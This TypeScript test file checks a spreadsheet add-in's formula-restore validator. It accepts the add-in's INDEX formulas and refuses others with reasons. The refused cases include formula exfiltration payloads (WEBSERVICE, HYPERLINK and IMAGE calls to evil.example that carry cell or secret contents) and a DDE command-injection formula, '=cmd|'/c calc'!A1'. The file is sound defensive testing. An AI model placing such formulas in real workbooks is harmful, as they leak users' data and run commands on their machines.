import { restorableFormula } from "../../src/workbook/receipts/receipt-formula";

/** The formulas restore writes: the add-in's own, parsed; everything else refused with a reason. */
test.each([
  '=INDEX.LATEST("RTM-NWE-A-1x3")',
  '=INDEX.LATEST("RTM-NWE-A-1x3","confidence")',
  '=INDEX.HISTORY("RTM-NWE-A-1x3", TODAY()-90, TODAY())',
  '=INDEX.HISTORY("RTM-NWE-A-1x3","-3M",TODAY(),"daily",TRUE)',
  '=INDEX.HISTORY("RTM-NWE-A-1x3", , , "weekly", TRUE, , "confidence")',
  '=INDEX.PANEL(A2:A4, DATE(2025,1,1), EOMONTH(TODAY(),-1), "previous")',
  "=INDEX.LATEST(A2)*100",
  "=INDEX.LATEST(RC[-1])",
  "=INDEX.PANEL(R2C1:R4C1)",
  "=INDEX.LATEST('My sheet'!$B$2)&\" USD\"",
  "=INDEX.LATEST(Sheet2!B2) - INDEX.LATEST(Sheet2!B3)",
  '=INDEX.CARD("RTM-NWE-A-1x3", {"Value","Confidence"})',
  "=@INDEX.LATEST(B2)",
  '=-INDEX.VOL("A", 30)%',
  "=INDEX.STATUS()",
])("%s is restored", (formula) => {
  expect(restorableFormula(formula)).toEqual({ ok: true });
});

test.each([
  ['=WEBSERVICE("http://evil.example/?d="&Secrets!A1)', "it calls WEBSERVICE, which is not an INDEX function"],
  ['=INDEX.LATEST("A")&WEBSERVICE("http://evil.example/")', "it calls WEBSERVICE, which is not an INDEX function"],
  ['=HYPERLINK("http://evil.example/?"&A1, INDEX.LATEST("A"))', "it calls HYPERLINK, which is not an INDEX function"],
  ['=INDEX.LATEST(FILTERXML(WEBSERVICE("http://x"),"//a"))', "it calls FILTERXML, which is not an INDEX function"],
  ["=INDEX.LATEST(INDIRECT(A1))", "it calls INDIRECT, which is not an INDEX function"],
  ['=IMAGE("http://evil.example/"&A1)', "it calls IMAGE, which is not an INDEX function"],
  ["=INDEX(A1:B2,1,1)", "it calls INDEX, which is not an INDEX function"],
  ["=INDEX.LATEST(Secret)", "it uses the name Secret, and a name can stand for any formula"],
  ["=INDEX.LATEST([Book.xlsx]Sheet1!A1)", '"[" cannot start a value'],
  [
    "=INDEX.LATEST('C:\\x\\[Book.xlsx]Sheet1'!A1)",
    "it refers to another workbook or an odd sheet name (C:\\x\\[Book.xlsx]Sheet1)",
  ],
  ["=cmd|'/c calc'!A1", "it uses the name cmd, and a name can stand for any formula"],
  ["=INDEX.LATEST(Table1[Symbol])", "it uses the name Table1, and a name can stand for any formula"],
  ["=1/0", "it calls no INDEX function"],
  ["=A1", "it calls no INDEX function"],
  ['INDEX.LATEST("A")', "it is not a formula"],
  ['=INDEX.LATEST("A"', '")" is missing at the end'],
  ['=INDEX.LATEST("A"))', '")" cannot follow the formula'],
  ['=INDEX.LATEST("A")\u0000', 'it has a character a formula of the add-in never holds ("\u0000")'],
])("%s is refused: %s", (formula, reason) => {
  expect(restorableFormula(formula)).toEqual({ ok: false, reason });
});
